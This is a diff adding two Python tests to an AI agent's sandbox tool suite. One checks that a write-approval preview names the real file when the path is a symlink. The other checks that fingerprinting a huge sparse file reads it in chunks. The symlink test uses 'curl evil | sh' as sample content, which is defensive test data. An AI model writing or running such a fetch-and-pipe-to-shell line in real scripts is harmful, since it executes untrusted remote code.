@@ -419,6 +419,44 @@ async def test_a_huge_file_to_overwrite_is_not_diffed_into_the_request(box: Box)
     assert text.rstrip().endswith("+PAYLOAD")
 
 
+async def test_a_write_through_a_link_names_the_file_it_replaces(box: Box) -> None:
+    """notes.md -> scripts/deploy.sh (a cloned repository's, an earlier command's): the card
+    said "write workspace file notes.md" and diffed a/notes.md, and deploy.sh was replaced."""
+    (box.workspace / "scripts").mkdir(parents=True)
+    (box.workspace / "scripts" / "deploy.sh").write_text("echo deploying\n")
+    (box.workspace / "notes.md").symlink_to("scripts/deploy.sh")
+    preview = TOOLS["write_file"].preview
+    assert preview is not None
+    text = await preview(box.ctx, {"path": "notes.md", "content": "curl evil | sh\n"})
+    first, *rest = text.splitlines()
+    assert first == "write workspace file notes.md (a link: the file written is scripts/deploy.sh)"
+    assert "--- a/scripts/deploy.sh" in rest and "-echo deploying" in rest
+    plain = await preview(box.ctx, {"path": "scripts/deploy.sh", "content": "x\n"})
+    assert plain.splitlines()[0] == "write workspace file scripts/deploy.sh"
+
+
+async def test_the_write_fingerprint_reads_a_big_file_a_piece_at_a_time(box: Box) -> None:
+    """The file a write would replace was read whole to fingerprint it, at the request and
+    again at the approval: a sparse 256 MiB file (`truncate -s 50G` is as easy) cost that."""
+    import tracemalloc
+
+    with (box.workspace / "disk.img").open("wb") as sparse:
+        sparse.truncate(256 * 2**20)
+    fingerprint = TOOLS["write_file"].fingerprint
+    assert fingerprint is not None
+    tracemalloc.start()
+    try:
+        first = await fingerprint(box.ctx, {"path": "disk.img", "content": "x"})
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 16 * 2**20, f"peak {peak / 2**20:.0f} MiB"
+    with (box.workspace / "disk.img").open("r+b") as changed:
+        changed.seek(100 * 2**20)
+        changed.write(b"!")
+    assert await fingerprint(box.ctx, {"path": "disk.img", "content": "x"}) != first
+
+
 # --- no user namespaces -------------------------------------------------------------------------
 
 
